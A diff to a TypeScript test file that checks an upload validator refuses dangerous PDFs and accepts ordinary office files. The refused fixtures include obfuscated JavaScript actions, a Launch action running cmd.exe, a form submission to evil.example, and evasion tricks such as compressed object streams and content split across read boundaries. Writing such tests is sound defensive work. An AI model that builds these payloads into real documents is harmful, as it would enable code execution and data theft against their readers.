@@ -5,6 +5,7 @@ import sharp from 'sharp'
 import { afterAll, expect, test } from 'vitest'
 import { aUser } from '../../../../db/build.ts'
 import { aSession, callApi, testApp } from '../../../../test/app.ts'
+import { pdfOf, type PdfShape } from '../../../../test/pdfs.ts'
 import {
   anImage,
   anMp4,
@@ -60,7 +61,7 @@ function pixelBomb(width: number, height: number): Buffer {
 
 const zip = (parts: ZipPart[], around?: Record<string, string>) => ({ bytes: zipOf(parts, around), name: 'pack.zip' })
 const docx = (parts: ZipPart[], main?: string) => ({ bytes: officeOf('docx', parts, main), name: 'paper.docx' })
-const pdf = (body: string) => ({ bytes: aPdf(body), name: 'paper.pdf' })
+const pdf = (catalog: string, shape: PdfShape = {}) => ({ bytes: pdfOf({ catalog, ...shape }), name: 'paper.pdf' })
 const named = (name: string, bytes = aPdf()) => ({ bytes, name })
 const mebibyte = 1024 * 1024
 
@@ -111,10 +112,14 @@ const refused: Record<string, Upload> = {
   'a PDF with JavaScript in disguise': pdf('/S/J#61va#53cript'),
   'a PDF that starts a program': pdf('/S/Launch/F(cmd.exe)'),
   'a PDF with a file in it': pdf('/EmbeddedFiles 7 0 R'),
-  'a PDF with rich media': pdf('/RichMedia'),
+  'a PDF with rich media': pdf('/RichMedia true'),
   'a PDF that sends forms': pdf('/S/SubmitForm/F(https://evil.example)'),
-  'a PDF with a password': pdf('/Encrypt 5 0 R'),
-  'a PDF with JavaScript across two reads': pdf(`${' '.repeat(256 * 1024 - 15)}/JavaScript`),
+  'a PDF with a password': pdf('', { trailer: '/Encrypt 5 0 R', objects: ['<</Filter/Standard>>'] }),
+  'a PDF with JavaScript across two reads': pdf(`${' '.repeat(256 * 1024 - 60)}/S/JavaScript`),
+  'a PDF with JavaScript in compressed objects': pdf('/OpenAction<</S/JavaScript>>', { as: 'compressed' }),
+  'a PDF with an attached file in compressed objects': pdf('/Names<</EmbeddedFiles<<>>>>', { as: 'compressed' }),
+  'a PDF with actions': pdf('/AA<</WC<</S/Hide>>>>', { as: 'compressed' }),
+  'a PDF without a table': named('a.pdf', Buffer.from('%PDF-1.7\ntrailer<</Root 1 0 R>>\n%%EOF\n')),
   'a PDF behind something else': named('a.pdf', Buffer.concat([Buffer.from(html), aPdf()])),
   'a PDF before an archive': named('a.pdf', Buffer.concat([aPdf(), plainZip])),
   'a PDF before a page': named('a.pdf', Buffer.concat([aPdf(), Buffer.from(html)])),
@@ -180,6 +185,7 @@ test('there are at least sixty of them', () => {
 
 const accepted: Record<string, Upload> = {
   PDF: { bytes: sampleFile('ein-worksheet.pdf'), name: 'EIN worksheet, v1.2.pdf', type: 'text/html' },
+  'PDF of compressed objects': { bytes: pdfOf({ as: 'compressed' }), name: 'compressed.pdf' },
   DOCX: { bytes: sampleFile('operating-agreement-questionnaire.docx'), name: 'Fragen für Gründer.docx' },
   XLSX: { bytes: sampleFile('owner-register.xlsx'), name: 'owner-register.xlsx' },
   PPTX: { bytes: officeOf('pptx'), name: 'deck.pptx' },
